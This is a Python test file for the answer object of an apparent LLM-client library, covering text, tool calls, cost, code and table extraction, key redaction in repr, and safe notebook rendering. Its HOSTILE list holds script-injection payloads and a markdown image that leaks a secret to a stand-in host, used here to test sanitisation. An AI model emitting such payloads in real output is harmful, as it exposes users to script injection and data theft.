"""What the user gets of an answer."""

import pickle
from decimal import Decimal

import pytest

from ofox_magic.answer import Answer, Code
from ofox_magic.chat.events import (
    Finished,
    FinishReason,
    Identified,
    ReasoningDelta,
    TextDelta,
    ToolCallDelta,
    ToolsRan,
    UsageReported,
)
from ofox_magic.chat.messages import Usage, assistant, tool, user
from ofox_magic.chat.parts import Reasoning, Text, ToolCall
from ofox_magic.chat.reply import Reply
from ofox_magic.context.convert import Converter
from ofox_magic.context.sharing import Sharing
from ofox_magic.errors import AnswerError, TransportError

from .render.allowed import violations
from .shells import real_shell

TEXT = """\
It fell by **12 %**:

1. so:
   ```python
   x = 1
   ```

| month | mean |
|-------|-----:|
| March | 3.1  |

```json
{"dip": true}
```
"""


def answer_of(*events, **given):
    reply = Reply()
    for event in events:
        reply.feed(event)
    return Answer(reply, **given)


def said(text, *events, **given):
    return answer_of(TextDelta(text), *events, Finished(), **given)


def test_an_answer_tells_what_came():
    answer = answer_of(
        Identified("openai/gpt-4o-2024", "r1", "q1"),
        ReasoningDelta("Hm."),
        TextDelta("No"),
        TextDelta("."),
        UsageReported(Usage(7, 2, 9)),
        FinishReason("stop"),
        Finished(),
        question=[user("So?")],
        asked_model="openai/gpt-4o",
        price=lambda: Decimal("0.0021"),
    )
    assert (answer.status, answer.text, answer.reasoning, answer.finish_reason) == ("done", "No.", "Hm.", "stop")
    assert (answer.model, answer.usage, answer.cost) == ("openai/gpt-4o-2024", Usage(7, 2, 9), Decimal("0.0021"))
    assert answer.parts == (Reasoning("Hm."), Text("No."))
    assert answer.messages == (user("So?"), assistant(Reasoning("Hm."), "No."))
    assert (answer.tool_calls, answer.error) == ((), None)
    assert str(answer) == f"{answer}" == "No."


def test_the_model_that_was_asked_stands_in_where_the_gateway_names_none():
    assert said("x", asked_model="openai/gpt-4o").model == "openai/gpt-4o"
    assert said("x").model is None


def test_the_rounds_with_tools_are_among_the_messages():
    answer = answer_of(
        TextDelta("Let me look. "),
        ToolCallDelta(0, "c1", "look", "{}"),
        ToolsRan((assistant("Let me look. ", ToolCall("c1", "look", "{}")), tool("42", "c1"))),
        TextDelta("It is 42."),
        Finished(),
        question=[user("How many?")],
    )
    call = ToolCall("c1", "look", "{}")
    assert answer.messages == (
        user("How many?"),
        assistant("Let me look. ", call),
        tool("42", "c1"),
        assistant("It is 42."),
    )
    assert answer.text == "Let me look. It is 42."


def test_the_cost_is_told_as_soon_as_prices_are_known():
    known = []
    answer = said("x", price=lambda: known[-1] if known else None)
    assert answer.cost is None
    known.append(Decimal("0.5"))
    assert answer.cost == Decimal("0.5")


def test_a_copy_keeps_the_cost_and_what_was_said():
    answer = said("It fell.", UsageReported(Usage(7, 2, 9)), asked_model="a/b", price=lambda: Decimal("0.5"))
    copy = pickle.loads(pickle.dumps(answer))
    assert (copy.text, copy.cost, repr(copy)) == ("It fell.", Decimal("0.5"), repr(answer))


def test_calls_that_wait_and_the_error_are_there():
    error = TransportError("the connection was lost")
    answer = answer_of(ToolCallDelta(0, "c1", "look", '{"a": 1}'), Finished(error))
    assert answer.tool_calls == (ToolCall("c1", "look", '{"a": 1}'),)
    assert (answer.status, answer.error) == ("incomplete", error)


def test_code_knows_its_language():
    python, json = said(TEXT).code
    assert (python, python.language, python.fenced) == ("x = 1", "python", True)
    assert (json, json.language) == ('{"dip": true}', "json")
    assert said("    x").code[0].fenced is False
    assert isinstance(python, str)


def test_code_can_be_pickled_with_its_language():
    copy = pickle.loads(pickle.dumps(Code("x", "python", fenced=False)))
    assert (copy, copy.language, copy.fenced) == ("x", "python", False)


def test_tables_are_frames():
    pytest.importorskip("pandas")
    (table,) = said(TEXT).tables
    assert table.to_dict("records") == [{"month": "March", "mean": 3.1}]


def test_the_json_in_it_is_found():
    assert said(TEXT).json == {"dip": True}


def test_json_that_was_cut_says_what_cut_it():
    with pytest.raises(AnswerError, match="cut at max_tokens, so allow more"):
        _ = said('{"a": [1', FinishReason("length")).json
    with pytest.raises(AnswerError) as caught:
        _ = said('{"a": [1').json
    assert "max_tokens" not in str(caught.value)
    assert str(caught.value).endswith(". To get JSON, ask with -f json")


def test_an_answer_that_is_nested_too_deep_is_refused_in_one_line():
    answer = said("> " * 50 + "```\nx")
    for name in ("code", "tables"):
        with pytest.raises(AnswerError, match=r"nested too deep, .*: read \.text"):
            getattr(answer, name)


def test_an_answer_without_text_holds_nothing():
    answer = answer_of(Finished())
    assert (answer.text, answer.code, answer.tables) == ("", [], [])
    assert answer.messages == (assistant(),)


# -- how it is shown --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (
            said(
                "It fell.\n\nBecause",
                UsageReported(Usage(1200, 2, 1202)),
                asked_model="a/b",
                price=lambda: Decimal("0.0021"),
            ),
            "<Answer 'It fell. Because' · a/b · 1,200 + 2 tokens · ≈$0.0021>",
        ),
        (said("x" * 99, asked_model="a/b"), f"<Answer '{'x' * 47}…' · a/b>"),
        (answer_of(TextDelta("It"), Finished(stopped=True)), "<Answer 'It' · stopped>"),
        (answer_of(Finished(TransportError("lost")), asked_model="a/b"), "<Answer · a/b · failed>"),
        (said("x"), "<Answer 'x' · done>"),
    ],
)
def test_its_repr_is_one_short_line(answer, shown):
    assert repr(answer) == shown


def test_no_key_and_nothing_unprintable_is_in_its_repr():
    answer = said("sk-of-abc123def456 \x1b[31mred\u202e", asked_model="m\x1b[0m sk-of-abc123def456")
    assert repr(answer) == "<Answer '[key] [31mred' · m[0m [key]>"


HOSTILE = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "[a](javascript:alert(1))",
    "```python\n<img src=x onerror=alert(1)>\n```",
]


@pytest.fixture
def formatted():
    with real_shell() as shell:
        yield shell.display_formatter.format


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_notebook_shows_it_safely(hostile, formatted):
    answer = answer_of(
        ReasoningDelta(hostile), TextDelta(hostile), Identified(f"m{hostile}"), FinishReason("stop"), Finished()
    )
    data, metadata = formatted(answer)
    assert set(data) == {"text/html", "text/plain"}
    assert data["text/plain"] == repr(answer)
    body = data["text/html"].split("</style>")[1]
    assert "<script" not in body
    assert "<img" not in body
    assert 'href="javascript' not in body
    assert metadata == {"ofox": {"v": 1}}


def test_it_is_rendered_as_an_answer_is(formatted):
    html = formatted(said(TEXT, asked_model="a/b"))[0]["text/html"]
    assert '<div class="ofox-answer mathjax_ignore tex2jax_ignore"><p>It fell by <strong>12 %</strong>:</p>' in html
    assert html.endswith('<p class="ofox-note">a/b</p></div>')
    inner = html.split("</style>")[1].split('ignore">', 1)[1].rsplit('<p class="ofox-note">', 1)[0]
    assert violations(inner) == []


def test_a_prompt_that_refers_to_it_gets_its_text():
    converter = Converter(Sharing())
    answer = said("It fell.")
    assert converter.is_sendable(answer)
    assert converter.to_parts(answer) == (Text("It fell."),)
